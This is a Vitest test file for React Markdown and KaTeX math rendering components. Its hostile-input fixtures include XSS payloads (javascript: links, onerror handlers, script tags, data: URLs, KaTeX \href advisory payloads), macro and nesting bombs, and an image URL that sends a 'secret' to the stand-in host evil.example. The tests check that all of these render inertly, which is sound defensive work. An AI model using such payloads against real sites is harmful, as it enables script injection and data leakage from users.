import { existsSync, readFileSync } from 'node:fs';
import { createElement } from 'react';
import { renderToString } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { corpusPath } from '@/test/corpus-dir';
import { HANG_GUARD_MS } from '@/test/hang-guard';
import { MathInline } from './MathInline';
import { MathMarkdown } from './MathMarkdown';

const render = (text: string, streaming = false) =>
  renderToString(createElement(MathMarkdown, { text, streaming }));

/** Every attribute of every tag in `html`, as [name, value]. */
function attributes(html: string): [string, string][] {
  const found: [string, string][] = [];
  for (const tag of html.match(/<[a-zA-Z][^>]*>/g) ?? []) {
    for (const m of tag.matchAll(/\s([^\s=/>]+)(?:="([^"]*)")?/g))
      found.push([m[1].toLowerCase(), m[2] ?? '']);
  }
  return found;
}

const HOSTILE_DOCUMENT = [
  '$\\href{javascript:alert(1)}{x}$ $\\href{JaVaScRiPt:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '\\(\\includegraphics[alt="x" onerror="alert(1)"]{a" onerror="alert(1)}\\)',
  '$\\htmlData{foo=bar}{x}$ $\\htmlStyle{color:red}{x}$ $\\rule{9999em}{9999em}$',
  '$\\def\\a{\\a\\a}\\a$ and an \\edef bomb $\\edef\\a{xx}\\edef\\b{\\a\\a}\\edef\\c{\\b\\b}\\c$',
  `$${'{'.repeat(50_000)}x${'}'.repeat(50_000)}$<img src=x onerror=alert(1)>`,
  '<script>window.pwned=1</script> <a href="javascript:alert(1)">x</a>',
  '[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) ![c](https://evil.example/x.png?q=secret)',
].join('\n\n');

describe('MathMarkdown', () => {
  it('renders inline and display math with KaTeX', () => {
    const html = render('Let \\(x^2\\) be given.\n\n\\[\n\\frac{a}{b}\n\\]');
    expect(html).toContain('class="katex"');
    expect(html).toContain('katex-display');
    expect(html).not.toContain('\\(');
  });

  it('escapes raw HTML instead of rendering it', () => {
    const html = render('Hi <script>alert(1)</script> and <img src=x onerror="alert(1)">');
    expect(html).not.toContain('<script');
    expect(html).not.toMatch(/<img[^>]*onerror/i);
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain('&lt;img');
  });

  it('shows remote images as a placeholder that loads nothing', () => {
    const html = render('![secret](https://evil.example/?q=secret)');
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('Image from evil.example (secret) — not loaded; open in a new tab');
    expect(html).toContain('<button');
  });

  it('does not make javascript:, data: or vbscript: links', () => {
    const html = render(
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x) [e](java\tscript:alert(1))',
    );
    expect(html).not.toMatch(/<a\s/);
    expect(html).not.toMatch(/href=/);
    expect(html).toContain('math-blocked-link');
  });

  it('opens safe links in a new tab without opener and shows their target', () => {
    const html = render('[site](https://example.org/page)');
    expect(html).toContain('href="https://example.org/page"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('title="https://example.org/page"');
  });

  it('shows broken LaTeX as marked source text', () => {
    const html = render('Bad \\(\\frac{1}{\\)\n\nand <b>\\(\\badcommand{<i>x</i>}\\)</b>');
    expect(html).toMatch(/<code class="math-error[^"]*" title="[^"]+">\\frac\{1\}\{<\/code>/);
    expect(html).toContain('\\badcommand{&lt;i&gt;x&lt;/i&gt;}');
    expect(html).not.toContain('<i>x</i>');
  });

  it('marks an unclosed \\( but keeps the rest of the text', () => {
    const html = render('Take \\(x and then \\(y\\) is fine.');
    expect(html).toMatch(/class="math-error[^"]*"[^>]*>\\\(<\/code>/);
    expect(html).toContain('x and then');
    expect(html).toContain('class="katex"');
  });

  it('treats an unfinished formula at a streaming tail as plain text', () => {
    const html = render('Done \\(a\\). Now \\(b + ', true);
    expect(html).not.toContain('math-error');
    expect(html).toContain('\\(b +');
  });

  it('keeps currency as text', () => {
    const html = render('It costs $5 and $10.');
    expect(html).not.toContain('katex');
    expect(html).toContain('$5 and $10');
  });

  it('renders the KaTeX advisory payloads inertly', () => {
    const html = render(
      '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\htmlStyle{color:red}{x}$',
    );
    expect(html).not.toMatch(/href="javascript/i);
    expect(html).not.toMatch(/<a\s/);
  });
});

describe('MathMarkdown on hostile input', () => {
  // The timeout is a hang guard; render speed is measured by `npm run bench:render`.
  it('renders the whole hostile corpus with no handler, script or script URL', {
    timeout: HANG_GUARD_MS,
  }, () => {
    const html = render(HOSTILE_DOCUMENT);
    expect(html).not.toMatch(/<(script|iframe|object|embed|img)\b/i);
    for (const [name, value] of attributes(html)) {
      expect(name.startsWith('on')).toBe(false);
      if (name === 'href' || name === 'src') expect(value).toMatch(/^https?:/);
    }
  });
});

const CORPUS = corpusPath('deepseek-math-v2', 'Putnam2024.jsonl');

describe.skipIf(!existsSync(CORPUS))('MathMarkdown on a corpus proof', () => {
  it('renders every formula of a real DeepSeekMath-V2 proof', () => {
    const line = readFileSync(CORPUS, 'utf8').split('\n')[4];
    const html = render(JSON.parse(line).model_prediction.proof);
    expect(html).not.toContain('math-error');
    expect(html.match(/class="katex"/g)?.length ?? 0).toBeGreaterThan(50);
    // No delimiter left in the text a reader sees (tags and their attributes aside).
    expect(html.replace(/<[^>]*>/g, '')).not.toMatch(/\\[([]/);
  });
});

describe('MathInline', () => {
  it('renders inline math without block elements', () => {
    const html = renderToString(
      createElement(MathInline, { text: 'Prove \\(n^2\\ge n\\) for \\[n\\in\\N\\]' }),
    );
    expect(html).toContain('class="katex"');
    expect(html).not.toMatch(/<(div|p|pre)[\s>]/);
    expect(html).not.toContain('katex-display');
  });

  it('drops text markup and keeps currency', () => {
    const html = renderToString(
      createElement(MathInline, { text: '\\emph{Claim} costs $5 and $10' }),
    );
    expect(html).toContain('Claim costs $5 and $10');
  });
});

describe('MathMarkdown with lineBreaks (proofs)', () => {
  const proof = 'Then PM ⟂ AC and PN ⟂ AD.\nHence This step holds for $x>0$.';

  it('keeps each proof line on its own line', () => {
    const html = renderToString(createElement(MathMarkdown, { text: proof, lineBreaks: true }));
    expect(html).toMatch(/AD\.<br\/?>\s*(<!-- -->)?Hence/);
  });

  it('prose elsewhere still joins a paragraph', () => {
    expect(render(proof)).not.toMatch(/<br/);
  });
});
